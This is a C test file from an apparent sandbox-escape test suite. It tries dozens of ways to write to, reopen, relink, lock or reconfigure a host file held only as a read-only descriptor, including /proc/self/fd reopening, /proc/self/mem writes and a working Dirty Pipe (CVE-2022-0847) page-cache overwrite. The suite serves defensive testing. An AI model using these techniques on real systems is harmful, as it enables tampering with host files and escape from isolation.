/* tests/escape/readonly.c - what can be done with a descriptor of a host file that was opened for reading only. */
#include "escape.h"

#include <linux/aio_abi.h>
#include <linux/falloc.h>
#include <linux/fs.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/sendfile.h>
#include <sys/uio.h>
#include <sys/xattr.h>

#define KERNEL_REFUSES FAILS("the kernel refuses it for every read-only descriptor")

ATTEMPT(ro_write, "write, pwrite, writev and pwritev2 to it", KERNEL_REFUSES, "")
{
	struct iovec iov = {(char *)"owned", 5};
	int fd = host_file();

	if (write(fd, "owned", 5) > 0 || pwrite(fd, "owned", 5, 0) > 0 || writev(fd, &iov, 1) > 0 || pwritev2(fd, &iov, 1, 0, RWF_APPEND) > 0)
		got("wrote");
	fcntl(fd, F_SETFL, O_RDWR | O_APPEND);
	if (write(fd, "owned", 5) > 0)
		got("wrote after F_SETFL");
}

ATTEMPT(ro_truncate, "ftruncate and fallocate of it", KERNEL_REFUSES, "")
{
	int fd = host_file();

	if (ftruncate(fd, 0) == 0 || fallocate(fd, 0, 0, 1 << 20) == 0 || fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 4096) == 0)
		got("truncated or allocated");
}

ATTEMPT(ro_map, "a shared mapping made writable, written by /proc/self/mem, or punched with MADV_REMOVE", KERNEL_REFUSES, "")
{
	int fd = host_file();

	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
		got("a writable shared mapping");
	char *map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
	NEED(map != MAP_FAILED);
	if (mprotect(map, 4096, PROT_READ | PROT_WRITE) == 0)
		got("mprotect made it writable");
	int mem = open("/proc/self/mem", O_RDWR);
	if (mem >= 0 && pwrite(mem, "owned", 5, (off_t)(uintptr_t)map) == 5)
		got("/proc/self/mem wrote into it");
	if (madvise(map, 4096, MADV_REMOVE) == 0)
		got("MADV_REMOVE");
	if (mremap(map, 4096, 8192, MREMAP_MAYMOVE) != MAP_FAILED)
		mprotect(map, 4096, PROT_WRITE);
}

ATTEMPT(ro_copy, "copy_file_range, sendfile, splice, tee and vmsplice into it", KERNEL_REFUSES, "")
{
	int fd = host_file(), p[2], q[2];
	int other = memfd_create("other", 0);
	struct iovec iov = {(char *)"owned", 5};
	off_t at = 0;

	NEED(write(other, "owned", 5) == 5 && pipe(p) == 0 && pipe(q) == 0 && write(p[1], "owned", 5) == 5);
	if (copy_file_range(other, &at, fd, NULL, 5, 0) > 0 || sendfile(fd, other, &at, 5) > 0)
		got("copied");
	if (vmsplice(q[1], &iov, 1, 0) != 5 || splice(q[0], NULL, fd, NULL, 5, 0) > 0 || splice(p[0], NULL, fd, NULL, 5, SPLICE_F_MOVE) > 0)
		got("spliced");
}

ATTEMPT(ro_splice_pages, "pages of it spliced into a pipe, then written over there (CVE-2022-0847)", KERNEL_REFUSES, "")
{
	int fd = host_file(), p[2];
	char buf[4096];
	loff_t at = 0;

	NEED(pipe(p) == 0);
	for (int room = fcntl(p[1], F_GETPIPE_SZ); room > 0; room -= (int)sizeof buf) /* all slots get the flag "can be merged into" */
		NEED(write(p[1], buf, sizeof buf) > 0);
	while (fcntl(p[0], F_SETFL, O_NONBLOCK) == 0 && read(p[0], buf, sizeof buf) > 0)
		;
	NEED(splice(fd, &at, p[1], NULL, 1, 0) == 1);
	NEED(write(p[1], "owned", 5) == 5);
	if (pread(fd, buf, 6, 0) == 6 && memmem(buf, 6, "owned", 5))
		got("the page cache of the file");
}

ATTEMPT(ro_aio, "an asynchronous write to it", KERNEL_REFUSES, "")
{
	aio_context_t ctx = 0;
	struct iocb cb = {.aio_fildes = (uint32_t)host_file(), .aio_lio_opcode = IOCB_CMD_PWRITE, .aio_buf = (uint64_t)(uintptr_t)"owned", .aio_nbytes = 5};
	struct iocb *list[] = {&cb};
	struct io_event ev = {0};

	NEED(syscall(SYS_io_setup, 4, &ctx) == 0);
	if (syscall(SYS_io_submit, ctx, 1, list) == 1 && syscall(SYS_io_getevents, ctx, 1, 1, &ev, NULL) == 1 && ev.res > 0)
		got("wrote");
}

ATTEMPT(ro_clone, "FICLONE, FICLONERANGE and FIDEDUPERANGE into it", KERNEL_REFUSES, "")
{
	int fd = host_file(), other = open(in("host/other"), O_RDONLY);
	struct file_clone_range range = {.src_fd = other};
	uint64_t dedupe[8] = {0, 4096, 1, (uint64_t)fd, 0, 0, 0, 0};

	if (ioctl(fd, FICLONE, other) == 0 || ioctl(fd, FICLONERANGE, &range) == 0)
		got("cloned");
	ioctl(other, FIDEDUPERANGE, dedupe);
}

ATTEMPT(ro_fchmod, "fchmod of it", HARMS, "")
{
	fchmod(host_file(), 04777);
}

ATTEMPT(ro_fchmodat2, "fchmodat2 of it with an empty path", HARMS, "")
{
	if (syscall(452 /* fchmodat2 */, host_file(), "", 0777, AT_EMPTY_PATH) < 0 && errno == ENOSYS)
		cannot("this kernel has no fchmodat2");
}

ATTEMPT(ro_fchown, "fchown of it", HARMS, "")
{
	fchown(host_file(), getuid() ? getuid() : 12345, getgid());
}

ATTEMPT(ro_fchownat, "fchownat of it with an empty path", HARMS, "")
{
	fchownat(host_file(), "", getuid() ? getuid() : 12345, getgid(), AT_EMPTY_PATH);
}

ATTEMPT(ro_futimens, "futimens of it", HARMS, "")
{
	const struct timespec past[2] = {{.tv_sec = 1}, {.tv_sec = 1}};

	futimens(host_file(), past);
}

ATTEMPT(ro_fsetxattr, "fsetxattr of it", HARMS, "xattr")
{
	fsetxattr(host_file(), "user.owned", "x", 1, 0);
}

ATTEMPT(ro_fremovexattr, "fremovexattr of it", HARMS, "xattr")
{
	fremovexattr(host_file(), "user.kept");
}

ATTEMPT(ro_setflags, "FS_IOC_SETFLAGS on it", HARMS, "")
{
	int flags = FS_NODUMP_FL;

	if (ioctl(host_file(), FS_IOC_SETFLAGS, &flags) < 0 && errno == ENOTTY)
		cannot("this file system has no flags");
}

ATTEMPT(ro_setxflags, "FS_IOC_FSSETXATTR on it", HARMS, "")
{
	struct fsxattr x = {.fsx_xflags = FS_XFLAG_NODUMP};

	if (ioctl(host_file(), FS_IOC_FSSETXATTR, &x) < 0 && (errno == ENOTTY || errno == EOPNOTSUPP))
		cannot("this file system has no flags");
}

ATTEMPT(ro_setflags_high_bits, "FS_IOC_SETFLAGS with bits above the low 32, which the kernel ignores", HARMS, "")
{
	int flags = FS_NODUMP_FL;

	if (syscall(SYS_ioctl, host_file(), FS_IOC_SETFLAGS | 1UL << 32, &flags) < 0 && errno == ENOTTY)
		cannot("this file system has no flags");
}

ATTEMPT(ro_file_setattr, "file_setattr of it", HARMS, "")
{
	uint64_t attr[3] = {FS_XFLAG_NODUMP};

	if (syscall(469 /* file_setattr */, host_file(), "", attr, sizeof attr, AT_EMPTY_PATH) < 0 && (errno == ENOSYS || errno == EOPNOTSUPP))
		cannot("this kernel or file system has no file_setattr");
}

ATTEMPT(ro_freeze, "the ioctls that freeze, trim or seal a file system or file", FAILS("it would stop the machine"), "")
{
	static const unsigned long requests[] = {FIFREEZE, FITHAW, FITRIM, 0x40086602 /* EXT4_IOC_GROUP_EXTEND */, 0x40806685 /* FS_IOC_ENABLE_VERITY */,
						 0x400c6615 /* ENCRYPTION_POLICY */, 0x8004587d /* GOINGDOWN */, 0x40046604 /* EXT4 version */, FS_IOC_SETFSLABEL};
	char arg[256] = {0};
	int fd = host_file();

	for (size_t i = 0; i < sizeof requests / sizeof *requests; i++)
		if (ioctl(fd, requests[i], arg) == 0)
			got("request %#lx", requests[i]);
	if (ioctl(fd, FIBMAP, arg) == 0)
		got("FIBMAP");
}

ATTEMPT(ro_reopen_fd, "opening /proc/self/fd/N for writing", HARMS, "")
{
	write_at(fmt_path("/proc/self/fd/%d", host_file()), O_WRONLY);
}

ATTEMPT(ro_reopen_dev_fd, "opening /dev/fd/N for writing", HARMS, "")
{
	write_at(fmt_path("/dev/fd/%d", host_file()), O_RDWR | O_APPEND);
}

ATTEMPT(ro_reopen_task, "opening /proc/PID/task/TID/fd/N for writing", HARMS, "")
{
	write_at(fmt_path("/proc/%d/task/%d/fd/%d", getpid(), gettid(), host_file()), O_WRONLY | O_TRUNC);
}

ATTEMPT(ro_reopen_thread_self, "opening /proc/thread-self/fd/N for writing, with O_CREAT", HARMS, "")
{
	write_at(fmt_path("/proc/thread-self/fd/%d", host_file()), O_WRONLY | O_CREAT | O_TRUNC);
}

ATTEMPT(ro_reopen_truncate, "O_RDONLY with O_TRUNC through /proc/self/fd", HARMS, "")
{
	open(fmt_path("/proc/self/fd/%d", host_file()), O_RDONLY | O_TRUNC);
}

ATTEMPT(ro_reopen_openat2, "openat2 of /proc/self/fd/N for writing", HARMS, "")
{
	uint64_t how[3] = {O_WRONLY};

	write_to((int)syscall(SYS_openat2, AT_FDCWD, fmt_path("/proc/self/fd/%d", host_file()), how, sizeof how));
}

ATTEMPT(ro_reopen_opath, "an O_PATH descriptor of the file opened for writing", HARMS, "")
{
	write_at(fmt_path("/proc/self/fd/%d", open(in("host/file"), O_PATH)), O_WRONLY);
}

ATTEMPT(ro_reopen_unlinked, "the file unlinked, its descriptor opened for writing and linked again", HARMS, "")
{
	int fd = host_file();

	unlink(in("host/file"));
	write_at(fmt_path("/proc/self/fd/%d", fd), O_WRONLY);
	linkat(fd, "", AT_FDCWD, in("host/again"), AT_EMPTY_PATH);
}

ATTEMPT(ro_truncate_link, "truncate of /proc/self/fd/N", HARMS, "")
{
	truncate(fmt_path("/proc/self/fd/%d", host_file()), 0);
}

ATTEMPT(ro_chmod_link, "chmod of /proc/self/fd/N", HARMS, "")
{
	chmod(fmt_path("/proc/self/fd/%d", host_file()), 0777);
}

ATTEMPT(ro_chown_link, "chown of /proc/self/fd/N", HARMS, "")
{
	chown(fmt_path("/proc/self/fd/%d", host_file()), getuid() ? getuid() : 12345, getgid());
}

ATTEMPT(ro_utimes_link, "utimensat of /proc/self/fd/N", HARMS, "")
{
	utimensat(AT_FDCWD, fmt_path("/proc/self/fd/%d", host_file()), NULL, 0);
}

ATTEMPT(ro_xattr_link, "setxattr of /proc/self/fd/N", HARMS, "xattr")
{
	setxattr(fmt_path("/proc/self/fd/%d", host_file()), "user.owned", "x", 1, 0);
}

ATTEMPT(ro_link_empty, "a new name for the file by linkat with an empty path", HARMS, "")
{
	if (linkat(host_file(), "", AT_FDCWD, in("host/linked"), AT_EMPTY_PATH) < 0 && errno == ENOENT)
		cannot("it takes a capability on this kernel");
}

ATTEMPT(ro_link_proc, "a new name for the file by linkat of /proc/self/fd/N", HARMS, "")
{
	linkat(AT_FDCWD, fmt_path("/proc/self/fd/%d", host_file()), AT_FDCWD, in("host/linked"), AT_SYMLINK_FOLLOW);
}

ATTEMPT(ro_handle, "the file opened for writing by its handle", HARMS, "")
{
	struct {
		struct file_handle h;
		char room[128];
	} handle = {.h = {.handle_bytes = 128}};
	int id, mount = open(in("host"), O_RDONLY | O_DIRECTORY);

	if (name_to_handle_at(AT_FDCWD, in("host/file"), &handle.h, &id, 0) < 0)
		cannot("no handles on this file system");
	int fd = open_by_handle_at(mount, &handle.h, O_WRONLY);
	if (fd < 0 && errno == EPERM)
		cannot("it takes a capability");
	write_to(fd);
}

ATTEMPT(ro_lease, "a lease, which makes the host's writers wait", HARMS, "")
{
	int fd = open(in("host/leased"), O_RDONLY);

	fcntl(fd, F_SETSIG, SIGURG);
	if (fcntl(fd, F_SETLEASE, F_RDLCK) == 0)
		sleep(1);
}

ATTEMPT(ro_lease_high_bits, "a lease, asked for with bits above the low 32", HARMS, "")
{
	int fd = open(in("host/leased"), O_RDONLY);

	if (syscall(SYS_fcntl, fd | 1L << 32, F_SETLEASE | 1L << 32, F_RDLCK) == 0)
		sleep(1);
}

ATTEMPT(ro_notify, "F_NOTIFY on a directory of the host", GAINS, "")
{
	signal(SIGIO, SIG_IGN);
	if (fcntl(open(in("host"), O_RDONLY | O_DIRECTORY), F_NOTIFY, 0x80000002) == 0)
		got("signals for changes of the host");
}

ATTEMPT(ro_write_hint, "F_SET_RW_HINT, which is kept with the inode", GAINS, "")
{
	uint64_t hint = 2;

	if (fcntl(host_file(), 1036 /* F_SET_RW_HINT */, &hint) == 0)
		got("a hint on the host's inode");
}

ATTEMPT(ro_flock, "an exclusive flock, which keeps the host's programs from theirs", HARMS, "limit")
{
	int fd = open(in("host/locked"), O_RDONLY);

	NEED(fd >= 0 && flock(fd, LOCK_EX) == 0);
	sleep(1);
}

ATTEMPT(ro_fcntl_lock, "a read lock on bytes, which keeps the host's programs from write locks", HARMS, "limit")
{
	struct flock l = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
	int fd = open(in("host/locked"), O_RDONLY);

	NEED(fd >= 0 && fcntl(fd, F_SETLK, &l) == 0);
	sleep(1);
}

ATTEMPT(ro_swap, "the file used as swap space, for accounting or quotas", FAILS("it would change the machine"), "")
{
	if (syscall(SYS_swapon, in("host/file"), 0) == 0 || syscall(SYS_acct, in("host/file")) == 0)
		got("the kernel writes to it");
	if (syscall(443 /* quotactl_fd */, host_file(), 0x800002U << 8, 0, NULL) == 0)
		got("quotas");
}
